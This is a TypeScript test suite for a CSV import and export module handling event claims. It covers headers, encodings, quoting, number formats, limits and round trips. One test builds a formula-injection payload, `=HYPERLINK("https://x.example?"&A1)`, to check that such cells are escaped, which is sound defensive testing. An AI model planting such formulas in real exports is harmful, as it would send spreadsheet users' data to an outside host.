/** CSV of claims: as people's programs write it, and as we write and read it. */
import { deepStrictEqual } from 'node:assert';
import fc from 'fast-check';
import t from 'tap';
import { POLARITIES } from '../../src/domain/properties.ts';
import { Refusal } from '../../src/domain/refusal.ts';
import { CLAIM_COLUMNS } from '../../src/exchange/csv-columns.ts';
import { readCsv } from '../../src/exchange/read-csv.ts';
import type { InputRow } from '../../src/exchange/rows.ts';
import { CLAIM_HEADER, claimRows } from '../../src/exchange/write-csv.ts';
import { LIMITS } from '../../src/limits.ts';
import type { ExportedClaim } from '../../src/usecases/export-claims.ts';
import { cut, inPieces } from './pieces.ts';

type Claim = { [field: string]: unknown };

const HEAD = 'event,property,claimant,value,statement,publisher';
const read = (text: string, charset?: string) => readPieces([text], charset);
async function readPieces(pieces: readonly (string | Buffer)[], charset?: string): Promise<InputRow[]> {
  const rows: InputRow[] = [];
  for await (const part of readCsv(inPieces(pieces), charset)) rows.push(...part);
  return rows;
}
const claimIn = async (text: string): Promise<Claim> => (await read(text))[0]?.value as Claim;

async function refusalOf(work: Promise<unknown>): Promise<Refusal> {
  try {
    await work;
  } catch (error) {
    if (error instanceof Refusal) return error;
    throw error;
  }
  throw new Error('nothing was refused');
}

t.test('rows are claims, in the columns that their headers name', async (t) => {
  const plain = { event: 'raid', property: 'killed', claimant: 'rvc' };
  const row = await claimIn(
    'Claimed at,EVENT,property,claimant,claimant_name,value,url\n2023,raid,killed,rvc,,2,https://a.example\n',
  );
  t.strictSame(row, {
    claimedAt: '2023',
    ...plain,
    value: 2,
    reports: [{ source: { url: 'https://a.example' } }],
  });
  t.strictSame(
    await claimIn('event,property,claimant,claimantName,claimantKind\nraid,killed,rvc,RVC,person\n'),
    {
      ...plain,
      claimant: { slug: 'rvc', name: 'RVC', kind: 'person' },
    },
  );
  const given = await claimIn('event,property,claimant,id,status,statedMin\nraid,killed,rvc,x,voided,7\n');
  t.strictSame(given, plain, 'columns of the record are passed over');
  t.strictSame(await claimIn('event,property,claimant,item,itemName\nraid,killed,rvc,t-72,\n'), {
    ...plain,
    item: 't-72',
  });
  t.strictSame(await claimIn('event,property,claimant,item,itemName\nraid,killed,rvc,t-72,T-72 tank\n'), {
    ...plain,
    item: { slug: 't-72', name: 'T-72 tank' },
  });
});

t.test(
  'the delimiter is what the header uses, and marks, charsets and line ends are what files have',
  async (t) => {
    const rows = [HEAD, 'raid,killed,rvc,"2","a; b",wire', 'raid,killed,rvc,3,é,wire'];
    const want = (await read(rows.join('\n'))).map((row) => row.value);
    t.equal(want.length, 2);
    const values = async (text: string | Buffer, charset?: string) =>
      (await readPieces([text], charset)).map((row) => row.value);
    for (const end of ['\n', '\r\n', '\r'])
      t.strictSame(await values(rows.join(end) + end), want, JSON.stringify(end));
    t.strictSame(await values(`${rows[0]}\n${rows[1]}\r\n${rows[2]}\r\n`), want, 'mixed line ends');
    t.strictSame(await values(`\ufeff${rows.join('\n')}`), want, 'a byte order mark');
    for (const delimiter of [';', '\t'])
      t.strictSame(
        await values(rows.map((row) => row.replaceAll(',', delimiter)).join('\n')),
        want,
        JSON.stringify(delimiter),
      );
    t.strictSame(await values(Buffer.from(rows.join('\n'), 'utf16le'), 'utf-16le'), want);
    t.strictSame(await values(Buffer.from(rows.join('\n'), 'latin1'), 'windows-1252'), want);
    const [curly] = (await values(
      Buffer.concat([
        Buffer.from(`${HEAD}\nraid,killed,rvc,2,`),
        Buffer.from([0x93, 0x80, 0x94, 0x96]),
        Buffer.from(',w\n'),
      ]),
      'Windows-1252',
    )) as Claim[];
    t.equal(curly?.statement, '“€”–', 'the quotation marks of windows-1252 are none of Latin-1');
    const [russian] = (await values(
      Buffer.concat([
        Buffer.from(`${HEAD}\nraid,killed,rvc,2,`),
        Buffer.from([0xc4, 0xe0]),
        Buffer.from(',w'),
      ]),
      'windows-1251',
    )) as Claim[];
    t.equal(russian?.statement, 'Да');
    t.match(await refusalOf(values(Buffer.from(rows.join('\n'), 'latin1'))), {
      code: 'malformed-body',
      message: /not utf-8/,
    });
    t.match(await refusalOf(values('', 'ebcdic-klingon')), { code: 'unsupported-media-type' });
  },
);

t.test('every fault of the header is named at once', async (t) => {
  const faults = async (header: string) =>
    Object.fromEntries((await refusalOf(read(`${header}\n`))).faults.map((one) => [one.path, one.code]));
  t.strictSame(await faults('event,events,value,Value,claimant'), {
    events: 'unknown-field',
    value: 'duplicate',
    property: 'required',
  });
  t.strictSame(await faults('words'), {
    words: 'unknown-field',
    event: 'required',
    property: 'required',
    claimant: 'required',
  });
  t.match(await refusalOf(read('')), { code: 'malformed-body', message: /no header row/ });
  t.match(await refusalOf(read('event,"prop')), { code: 'malformed-body' }, 'a header that never ends');
  const wide = await refusalOf(read(`${'x,'.repeat(400_000)}y\n`));
  t.ok(wide.faults.length <= LIMITS.faultsInAnswer);
  t.ok(wide.message.length < 5_000, 'a wide header has no long answer');
});

t.test('rows have the number of their first line, whatever lies in quotes', async (t) => {
  const text = [
    HEAD,
    '',
    'raid,killed,rvc,1,"two\nlines",a',
    'raid,killed,rvc,2,"three\r\n\r\nlines",a',
    ',,,,,',
    'raid,killed,rvc,3,"""quoted"", with ""marks""",a',
    'raid,killed,rvc,4,last,a',
  ].join('\r\n');
  const rows = await read(text);
  t.strictSame(
    rows.map((row) => [row.line, (row.value as Claim).statement]),
    [
      [3, 'two\nlines'],
      [5, 'three\r\n\r\nlines'],
      [9, '"quoted", with "marks"'],
      [10, 'last'],
    ],
  );
});

t.test('rows that differ in their report alone are one claim', async (t) => {
  const rows = await read(
    `${HEAD}\nraid,killed,rvc,2,,a\nraid,killed,rvc,2,,b\nraid,killed,rvc,3,,b\nraid,killed,rvc,2,,c\n`,
  );
  t.strictSame(
    rows.map((row) => [row.line, row.rows, (row.value as { reports: unknown[] }).reports.length]),
    [
      [2, 2, 2],
      [4, 1, 1],
      [5, 1, 1],
    ],
  );
  const many = await read(`${HEAD}\n${'raid,killed,rvc,2,,a\n'.repeat(LIMITS.reportsPerClaim + 1)}`);
  t.strictSame(
    many.map((row) => row.rows),
    [LIMITS.reportsPerClaim, 1],
    'of as many reports as a claim can have',
  );
  const words = 'x'.repeat(LIMITS.bodyBytes / 4);
  const large = await read(`${HEAD}\n${`raid,killed,rvc,2,${words},a\n`.repeat(8)}`);
  t.ok(
    large.every((row) => row.bytes <= LIMITS.bodyBytes),
    'and of no more bytes than a body can have',
  );
});

t.test('a row with more cells than headers is refused, and one with fewer has the rest empty', async (t) => {
  const [short, long, blank] = await read(
    `${HEAD}\nraid,killed,rvc\nraid,killed,rvc,2,,a,b,c\nraid,killed,rvc,2,x,a, ,,\n`,
  );
  t.strictSame(short?.value, { event: 'raid', property: 'killed', claimant: 'rvc' });
  t.match(long?.refusal ? null : long?.faults, [
    { path: '', code: 'too-many', message: 'has 8 cells under 6 headers' },
  ]);
  t.notOk(blank && 'faults' in blank, 'cells that are empty say nothing');
});

t.test(
  'what is no CSV is refused with its line and ends the reading; the rows before it are given',
  async (t) => {
    const good = 'raid,killed,rvc,2,,a\nraid,killed,rvc,3,,a\n';
    for (const [what, bad] of [
      ['an unclosed quote', 'raid,killed,"rvc,4,,a\nraid,killed,rvc,5,,a\n'],
      ['a quote within a cell', 'raid,kil"led,rvc,4,,a\nraid,killed,rvc,5,,a\n'],
      ['more after a closing quote', 'raid,"killed"x,rvc,4,,a\nraid,killed,rvc,5,,a\n'],
      ['a row over the limit', `raid,killed,rvc,4,${'x'.repeat(LIMITS.bodyBytes)},a\nraid,killed,rvc,5,,a\n`],
    ] as const) {
      const text = `${HEAD}\n${good}${bad}`;
      const step = text.length > LIMITS.bodyBytes ? 50_001 : 7;
      const cuts = Array.from({ length: Math.ceil(text.length / step) }, (_, i) =>
        text.slice(i * step, (i + 1) * step),
      );
      for (const pieces of [[text], cuts]) {
        const rows = await readPieces(pieces);
        t.strictSame(
          rows.map((row) => [row.line, row.refusal?.code ?? (row.value as Claim).value]),
          [
            [2, 2],
            [3, 3],
            [4, 'malformed-body'],
          ],
          what,
        );
      }
    }
  },
);

t.test('an unclosed quote is not held, however much comes after it', async (t) => {
  let sent = 0;
  async function* endless(): AsyncGenerator<Buffer> {
    yield Buffer.from(`${HEAD}\nraid,killed,rvc,2,"`);
    for (; sent < 4_000; sent++) yield Buffer.alloc(65_536, 'x');
  }
  const rows: InputRow[] = [];
  for await (const part of readCsv(endless())) rows.push(...part);
  t.match(rows, [{ line: 2, refusal: { code: 'malformed-body' } }]);
  t.ok(sent < 20, 'nothing more is read once it is over the limit');
});

t.test('numbers may have decimal commas and thousands; what could be either is not guessed', async (t) => {
  const min = async (cell: string) => {
    const [row] = await read(`event;property;claimant;min\nraid;killed;rvc;${cell}\n`);
    return row?.refusal
      ? null
      : (row?.faults?.[0]?.code ?? (row?.value as { value: { min: number } }).value.min);
  };
  for (const [cell, number] of [
    ['12', 12],
    ['-3', -3],
    ["'-3", -3],
    ['1,5', 1.5],
    ['1.5', 1.5],
    ['0,125', 0.125],
    ['1 200', 1200],
    ['1 200', 1200],
    ['1’200,5', 1200.5],
    ['1,200,300', 1200300],
    ['1.200.300,25', 1200300.25],
    ['1,200.5', 1200.5],
    ['1.2340', 1.234],
    ['1e-7', 1e-7],
    ['1,200', 'invalid'],
    ['1.200', 'invalid'],
    ['12-15', 'wrong-type'],
    ['twelve', 'wrong-type'],
    ['0x10', 'wrong-type'],
    ['Infinity', 'wrong-type'],
    ['1,2,3', 'wrong-type'],
  ] as const)
    t.equal(await min(cell), number, cell);
  const value = async (cell: string) =>
    (await claimIn(`event;property;claimant;value\nraid;killed;rvc;${cell}\n`)).value;
  for (const [cell, kept] of [
    ['70', 70],
    ["'70", '70'],
    ['1.5', 1.5],
    ['1,5', '1,5'],
    ['1.200', '1.200'],
    ['TRUE', true],
    ["'true", 'true'],
    ['more than 70', 'more than 70'],
    ['12345678901234567890123', '12345678901234567890123'],
  ] as const)
    t.strictSame(await value(cell), kept, cell);
});

t.test('cells that a spreadsheet would run are marked, and come back without the mark', async (t) => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'=", "''@"]) {
    const statement = `${start}HYPERLINK("https://x.example?"&A1)`;
    const csv = `${CLAIM_HEADER}${claimRows([exported({ ...BARE, statement })])}`;
    t.ok(csv.includes(`'${statement.replaceAll('"', '""')}`), JSON.stringify(start));
    t.equal((await claimIn(csv)).statement, statement, JSON.stringify(start));
  }
  const harmless = `${CLAIM_HEADER}${claimRows([exported({ ...BARE, value: -5, statement: "'tis a-b=c" })])}`;
  t.match(harmless, /,-5,/, 'a number is no formula');
  t.match(harmless, /,'tis a-b=c,/);
});

t.test('claims that are written come back the same, wherever the bytes are cut', async (t) => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(portable, { maxLength: 5 }),
      fc.infiniteStream(fc.nat()),
      async (claims, cuts) => {
        const named = claims.map((one, i) => ({ ...one, externalId: `row ${i}` }));
        const csv = Buffer.from(CLAIM_HEADER + claimRows(named.map(exported)));
        same(await readPieces(cut(csv, cuts)), named);
      },
    ),
    { numRuns: 150 },
  );
  t.pass('150 files');
});

t.test('every column is documented once, under a name of its own', async (t) => {
  t.equal(new Set(CLAIM_COLUMNS.map((one) => one.name.toLowerCase())).size, CLAIM_COLUMNS.length);
  t.ok(CLAIM_COLUMNS.every((one) => one.means !== ''));
});

const BARE: Claim = {
  event: { slug: 'raid', name: 'Raid' },
  property: 'killed',
  claimant: { slug: 'rvc', name: 'RVC' },
  value: 2,
  reports: [{ source: { publisher: 'Wire' } }],
};

function same(rows: readonly InputRow[], claims: readonly Claim[]): void {
  const back = rows.map((row) => {
    if (row.refusal || row.faults) throw new Error(JSON.stringify(row));
    return row.value;
  });
  deepStrictEqual(sorted(back), sorted(claims));
}

const sorted = (value: unknown): unknown =>
  Array.isArray(value)
    ? value.map(sorted)
    : value !== null && typeof value === 'object'
      ? Object.fromEntries(
          Object.entries(value)
            .filter(([, inner]) => inner !== undefined)
            .sort(([a], [b]) => (a < b ? -1 : 1))
            .map(([key, inner]) => [key, sorted(inner)]),
        )
      : value;

function exported(claim: Claim): ExportedClaim {
  return {
    portable: { id: 'an-id', recordedAt: '2024-01-01T00:00:00.000Z', ...claim },
    row: { id: 'an-id', topic: 'casualties', status: 'standing', content: { value: null } },
    question: { id: 'a.question' },
  } as unknown as ExportedClaim;
}

const slug = fc.stringMatching(/^[a-z][a-z0-9]{0,5}(?:-[a-z0-9]{1,4})?$/);
/** Any text that an API takes, with more of what is dangerous in CSV than chance would bring. */
const words = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 6 }),
      fc.constantFrom(
        ...',;\t"\'\n\r=+-@|',
        '\r\n',
        '""',
        '＝',
        'שלום',
        'مرحبا',
        '🇺🇦',
        '👩‍👩‍👧',
        '\u200f',
        '\ufeff',
        ' ',
        '70',
        'true',
        'NULL',
      ),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((parts) => parts.join('').replaceAll('\0', ''))
  .filter((text) => text.trim() !== '' && text.isWellFormed());
const optional = <T>(one: fc.Arbitrary<T>) => fc.option(one, { nil: undefined });
const actor = fc.record({ slug, name: words, kind: optional(fc.constantFrom('person', 'state')) });
const number = fc.oneof(
  fc.integer(),
  fc.integer({ min: 1000, max: 9_999_999 }).map((n) => n / 1000),
  fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e15, max: 1e15 }).map((n) => (n === 0 ? 0 : n)),
  fc.constantFrom(1.234, 12.345, 0.125, 1e-7, 1e15, Number.MAX_SAFE_INTEGER),
);
const value = fc.oneof(
  number,
  words,
  fc.constantFrom('70', '007', '-5', '1.234', "'70", 'true', ' 12 ', '1e3'),
  fc.boolean(),
  fc.record({ status: slug }),
  fc.record({ actor, sole: optional(fc.constant(true)) }),
  fc.record({ text: words, lang: fc.constantFrom('fr', 'en') }),
  fc.record({
    min: number,
    max: optional(number),
    minExclusive: optional(fc.boolean()),
    text: optional(words),
    lang: optional(fc.constant('uk')),
  }),
);
const source = fc.record({
  publisher: optional(words),
  title: optional(words),
  url: fc.webUrl(),
  publishedAt: optional(fc.constantFrom('2023', '2023-05-24')),
  lang: optional(fc.constantFrom('fr', 'uk')),
});
const report = fc.record({
  source,
  quote: optional(words),
  lang: optional(fc.constant('ar')),
  publishedAt: optional(fc.constant('2023-05-25')),
  relayedFrom: optional(fc.record({ source: fc.record({ publisher: words, title: optional(words) }) })),
});
const portable: fc.Arbitrary<Claim> = fc.record({
  event: fc.record({ slug, name: words, start: optional(fc.constant('2023-05-22')) }),
  property: fc.oneof(
    slug,
    fc.record({
      slug,
      name: words,
      topic: fc.constant('casualties'),
      needs: fc.constant(['subject', 'place']),
    }),
  ),
  subject: optional(actor),
  place: optional(fc.record({ slug, name: words })),
  item: optional(fc.record({ slug, name: words })),
  claimant: actor,
  speaker: optional(actor),
  polarity: optional(fc.constantFrom(...POLARITIES)),
  value,
  statement: optional(words),
  claimedAt: optional(fc.constantFrom('2023', '2023-05-24', '2023-05-24T10:00:00Z')),
  claimedAtInferred: optional(fc.constant(true)),
  retracted: optional(fc.record({ retractedAt: fc.constant('2023-06-01'), reason: words })),
  reports: fc.array(report, { minLength: 1, maxLength: 3 }),
});
